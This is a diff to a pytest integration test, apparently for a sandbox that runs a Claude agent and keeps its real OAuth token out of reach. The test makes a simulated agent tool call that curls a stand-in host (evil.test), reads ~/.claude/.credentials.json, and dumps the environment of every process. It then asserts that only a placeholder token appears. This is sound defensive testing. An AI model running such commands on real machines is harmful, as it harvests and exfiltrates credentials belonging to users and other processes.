@@ -12,7 +12,7 @@ from typing import TYPE_CHECKING
 
 import pytest
 
-from bot_bottle.agent_provider.claude import PLACEHOLDER_TOKEN
+from bot_bottle.agent_provider.claude_login import PLACEHOLDER_TOKEN
 from bot_bottle.demo.messages_api import tool_results
 from tests.support.outside import new_marker
 from tests.support.watch import Watch
@@ -59,8 +59,9 @@ def test_claude_works_in_a_bottle_and_never_holds_the_token(lab: Lab, world: Wor
     assert not any(marker in seen.sni for seen in world.records().requests)
     assert not any(marker in question.name for question in world.records().questions)
 
-    # The tool printed its environment and everyone else's: the placeholder is there, the token is not.
-    assert f"CLAUDE_CODE_OAUTH_TOKEN={PLACEHOLDER_TOKEN}" in results[-1]
+    # The tool printed its login and everyone's environment: the placeholder is there, the token is not.
+    assert f'"accessToken": "{PLACEHOLDER_TOKEN}"' in results[-1]
+    assert "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1" in results[-1]
     assert token not in "".join(results)
     assert watch.rounds > 0
     assert "metadata.json" in watch.files
@@ -89,7 +90,10 @@ def _run_claude(lab: Lab, world: World, claude: Path, token: str, marker: str) -
         f"agent_provider:\n  template: claude\n  auth_token: {TOKEN_REF}\n",
         prompt=f"You are a careful worker, session {marker}.",
     )
-    command = f"curl -sS https://{marker}.evil.test/upload; env; cat /proc/[0-9]*/environ | tr '\\0' '\\n'"
+    command = (
+        f"curl -sS https://{marker}.evil.test/upload; cat ~/.claude/.credentials.json; env; "
+        "cat /proc/[0-9]*/environ | tr '\\0' '\\n'"
+    )
     world.call(
         "model",
         final_text=FINAL_TEXT,
